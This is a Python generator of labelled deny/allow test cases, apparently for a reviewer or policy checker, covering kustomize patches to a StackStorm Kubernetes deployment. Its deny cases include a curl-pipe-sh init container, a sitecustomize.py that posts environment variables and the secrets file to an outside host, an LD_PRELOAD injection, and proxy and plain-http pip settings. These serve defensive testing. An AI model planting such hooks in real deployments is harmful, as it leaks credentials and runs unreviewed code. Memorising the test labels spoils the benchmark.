from lib import *
import os
def dp(id, exp, cls, reason, name, ops, kind="Deployment", base="prod", planted=None):
    case(id, exp, cls, reason, patches(jp(kind, name, ops)), base=base, planted=planted)
case("sup-image-foreign-registry", "deny", "supply-chain",
     "st2api pulled from an unknown personal registry namespace (ghcr.io/st2-community-builds): code nobody at StackStorm built, with the datastore key and DB credentials mounted",
     "images:\n  - name: stackstorm/st2api\n    newName: ghcr.io/st2-community-builds/st2api\n    newTag: 3.8.1\n")
case("sup-image-dev-tag", "deny", "supply-chain",
     "st2 images on the floating development tag 3.9dev (rebuilt from master every night) in production",
     "images:\n  - name: stackstorm/st2actionrunner\n    newTag: 3.9dev\n")
case("sup-rabbit-floating-3", "deny", "supply-chain",
     "rabbitmq:3 floats across minors (3.12 today, 3.13 later): with updateStrategy OnDelete, pods recreated at different times run mixed minors; 3.13 needs all 3.12 feature flags enabled first",
     "images:\n  - name: rabbitmq\n    newTag: '3'\n")
dp("sup-curl-pipe-sh", "deny", "supply-chain", "an init container in every action runner pipes a script fetched from the internet into sh (unpinned, unreviewed code running as root beside the SSH key and datastore key)", "st2actionrunner", """
  - op: add
    path: /spec/template/spec/initContainers/0
    value:
      name: bootstrap-tools
      image: stackstorm/st2actionrunner:3.8.1
      command: [sh, -c, "curl -fsSL https://raw.githubusercontent.com/acme-ops/st2-bootstrap/main/install.sh | sh"]
      resources: {requests: {cpu: 10m, memory: 32Mi}, limits: {cpu: 500m, memory: 256Mi}}
      securityContext: {allowPrivilegeEscalation: false, privileged: false}
""")
dp("sup-pack-install-git-main", "deny", "supply-chain", "st2-register-content first installs a pack from a third-party git repository's main branch (st2 pack install runs its requirements.txt pip installs): unreviewed, unpinned code loaded into production", "st2-register-content", """
  - op: replace
    path: /spec/template/spec/containers/0/command
    value: [sh, -ec]
  - op: replace
    path: /spec/template/spec/containers/0/args
    value:
      - st2 pack install https://github.com/some-user/stackstorm-ops-tools.git && exec /opt/stackstorm/st2/bin/st2-register-content --config-file=/etc/st2/st2.conf --config-file=/etc/st2/st2.docker.conf --config-file=/etc/st2/st2.user.conf --register-all --register-fail-on-failure --config-file=/etc/st2/st2.secrets.conf
""", kind="Job")
dp("sup-pip-index-plain-http", "deny", "supply-chain", "PIP_INDEX_URL over plain http with PIP_TRUSTED_HOST on the runners: every pack virtualenv install can be swapped in transit (code execution)", "st2actionrunner", """
  - op: add
    path: /spec/template/spec/containers/0/env
    value:
      - {name: PIP_INDEX_URL, value: "http://pypi-mirror.example.net/simple"}
      - {name: PIP_TRUSTED_HOST, value: pypi-mirror.example.net}
""")
dp("sup-http-proxy-external", "deny", "exfiltration", "HTTPS_PROXY/HTTP_PROXY to an outside proxy with no NO_PROXY on the runners: action traffic, including st2 API calls carrying ST2_ACTION_AUTH_TOKEN to http://st2api:9101, goes through a third party", "st2actionrunner", """
  - op: add
    path: /spec/template/spec/containers/0/env
    value:
      - {name: HTTP_PROXY, value: "http://proxy.outside-vendor.net:3128"}
      - {name: HTTPS_PROXY, value: "http://proxy.outside-vendor.net:3128"}
      - {name: http_proxy, value: "http://proxy.outside-vendor.net:3128"}
""")
case("sup-sitecustomize-exfil", "deny", "exfiltration",
     "a sitecustomize.py on st2api's PYTHONPATH (python runs it at every start) posts the environment and st2.secrets.conf to an outside host",
     "configMapGenerator:\n  - name: st2api-hooks\n    files:\n      - sitecustomize.py=sitecustomize.py\n" + patches(jp("Deployment", "st2api", """
       - op: add
         path: /spec/template/spec/volumes/-
         value: {name: hooks, configMap: {name: st2api-hooks}}
       - op: add
         path: /spec/template/spec/containers/0/volumeMounts/-
         value: {name: hooks, mountPath: /opt/hooks, readOnly: true}
       - op: add
         path: /spec/template/spec/containers/0/env
         value: [{name: PYTHONPATH, value: /opt/hooks}]
     """)), files={"sitecustomize.py": """
      import json, os, urllib.request
      try:
          body = json.dumps({"env": dict(os.environ), "conf": open("/etc/st2/st2.secrets.conf").read()}).encode()
          urllib.request.urlopen(urllib.request.Request("https://telemetry.metrics-collector.io/v1/ingest", data=body), timeout=2)
      except Exception:
          pass
     """})
dp("sup-ld-preload-configmap", "deny", "supply-chain", "LD_PRELOAD of a shared object shipped in a ConfigMap's binaryData into st2auth: arbitrary native code inside the process that sees every password", "st2auth", """
  - op: add
    path: /spec/template/spec/volumes/-
    value: {name: preload, configMap: {name: st2auth-preload}}
  - op: add
    path: /spec/template/spec/containers/0/volumeMounts/-
    value: {name: preload, mountPath: /opt/preload, readOnly: true}
  - op: add
    path: /spec/template/spec/containers/0/env
    value: [{name: LD_PRELOAD, value: /opt/preload/libaudit.so}]
""")
# LD_PRELOAD needs the ConfigMap: add via generator in the same case
import lib as _l
for i, c in enumerate(_l.CASES):
    if c[0] == "sup-ld-preload-configmap":
        f = dict(c[4]); f["kustomization.yaml"] = f["kustomization.yaml"].replace("patches:\n", "configMapGenerator:\n  - name: st2auth-preload\n    options: {disableNameSuffixHash: true}\n    files:\n      - libaudit.so=libaudit.so\npatches:\n", 1)
        f["libaudit.so"] = b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00>\x00\x01\x00\x00\x00\xff\xfe"
        _l.CASES[i] = (c[0], c[1], c[2], c[3], f, c[5])
# safe look-alikes
case("sup-safe-digest-pin", "allow", "supply-safe", "st2api pinned by digest on top of its tag (tag@sha256)",
     "images:\n  - name: stackstorm/st2api\n    newTag: 3.8.1\n    digest: sha256:4f6c8b1e2a3d5c7e9f0a1b2c3d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6\n")
case("sup-safe-busybox-bump", "allow", "supply-safe", "busybox 1.36.1 -> 1.37.0 for the wait-for-* init containers",
     "images:\n  - name: busybox\n    newTag: 1.37.0\n")
case("sup-safe-private-mirror-pinned", "allow", "supply-safe", "StackStorm images from the company's pull-through cache of Docker Hub, same tag",
     "images:\n  - name: stackstorm/st2web\n    newName: registry.example.com/dockerhub/stackstorm/st2web\n    newTag: 3.8.1\n")
dp("sup-safe-no-proxy-internal", "allow", "supply-safe", "an in-cluster egress proxy with NO_PROXY covering cluster Services (st2api, mongodb, rabbitmq, etcd, .svc)", "st2actionrunner", """
  - op: add
    path: /spec/template/spec/containers/0/env
    value:
      - {name: HTTPS_PROXY, value: "http://egress-proxy.st2-prod.svc:3128"}
      - {name: NO_PROXY, value: "st2api,st2auth,st2stream,mongodb,rabbitmq,etcd,.svc,.cluster.local,localhost,127.0.0.1"}
""")
dp("sup-safe-pythondontwrite", "allow", "supply-safe", "PYTHONDONTWRITEBYTECODE=1 and PYTHONUNBUFFERED=1 on st2api: logging/bytecode knobs only", "st2api", """
  - op: add
    path: /spec/template/spec/containers/0/env
    value: [{name: PYTHONUNBUFFERED, value: "1"}, {name: PYTHONDONTWRITEBYTECODE, value: "1"}]
""")
DER = open(os.path.join(os.path.dirname(__file__), "assets", "corp-ca.der"), "rb").read() if True else None
case("sup-safe-ca-der-binary", "allow", "supply-safe",
     "the company's public root CA in DER form (a binary file, kustomize puts it in binaryData) mounted for the runners' Java-based tools",
     "configMapGenerator:\n  - name: corp-ca-der\n    files:\n      - corp-root.der=corp-root.der\n" + patches(jp("Deployment", "st2actionrunner", """
       - op: add
         path: /spec/template/spec/volumes/-
         value: {name: corp-ca-der, configMap: {name: corp-ca-der}}
       - op: add
         path: /spec/template/spec/containers/0/volumeMounts/-
         value: {name: corp-ca-der, mountPath: /etc/ssl/corp-der, readOnly: true}
     """)), files={"corp-root.der": DER})
